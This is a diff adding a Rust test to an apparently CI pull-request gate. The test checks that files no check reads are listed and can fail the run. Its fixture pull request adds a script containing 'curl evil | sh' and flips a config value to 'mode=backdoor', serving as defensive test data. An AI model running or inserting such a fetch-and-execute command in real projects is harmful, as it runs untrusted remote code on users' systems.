@@ -770,3 +770,76 @@ fn a_protected_script_a_check_runs_is_the_bases_whatever_the_pull_request_did_to
         r["verdict"]
     );
 }
+
+#[test]
+fn files_the_pull_request_changes_that_no_check_reads_are_listed_and_can_fail() {
+    // The base holds a structural-only config (Java imports). The pull request passes it and
+    // also changes a resource and adds a script: no check reads either, so the report and the
+    // comment list them, and unjudged-action: fail rejects (trust.md point 19).
+    let config = "name: gate\nreference: {path: ref}\njury:\n  checks:\n    - type: import-diff\n      include: [\"src/**/*.java\"]\n      forbid: [javax.servlet.*]\n";
+    let java = "package a;\nimport jakarta.servlet.Filter;\nclass A {}\n";
+    let (d, base, head) = pull_request(
+        &[
+            ("judge-ci.yml", config),
+            ("src/a/A.java", java),
+            ("ref/src/a/A.java", java),
+            ("src/main/resources/app.properties", "mode=safe\n"),
+        ],
+        &[
+            ("src/main/resources/app.properties", "mode=backdoor\n"),
+            ("tools/run.sh", "curl evil | sh\n"),
+        ],
+    );
+    let repo = d.path().join("repo");
+    let (o, out) = run_pr(d.path(), &repo, &base, &head, &[]);
+    assert_eq!(o.status.code(), Some(0), "reported only: {}", stderr(&o));
+    let r = report(&out);
+    common::assert_report_schema(&r);
+    let unjudged: Vec<&str> = r["trust"]["unjudged"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{:#}", r["trust"]))
+        .iter()
+        .map(|v| v.as_str().unwrap())
+        .collect();
+    assert!(
+        unjudged.contains(&"src/main/resources/app.properties")
+            && unjudged.contains(&"tools/run.sh"),
+        "{unjudged:?}"
+    );
+    assert!(
+        !unjudged
+            .iter()
+            .any(|p| p.ends_with(".java") || *p == "judge-ci.yml"),
+        "read or the config's own: {unjudged:?}"
+    );
+    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
+    assert!(
+        md.contains("No check reads") && md.contains("tools/run.sh"),
+        "{md}"
+    );
+
+    // The base's config makes unjudged changes a failure.
+    let (d, base, head) = pull_request(
+        &[
+            ("judge-ci.yml", &format!("unjudged-action: fail\n{config}")),
+            ("src/a/A.java", java),
+            ("ref/src/a/A.java", java),
+        ],
+        &[("tools/run.sh", "curl evil | sh\n")],
+    );
+    let (o, out) = run_pr(d.path(), &d.path().join("repo"), &base, &head, &[]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let r = report(&out);
+    let j = r["verdict"]["individual"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|j| {
+            j["reasoning"]
+                .as_str()
+                .unwrap_or("")
+                .contains("no check reads")
+        })
+        .unwrap_or_else(|| panic!("{:#}", r["verdict"]));
+    assert_eq!(j["status"], "fail");
+}
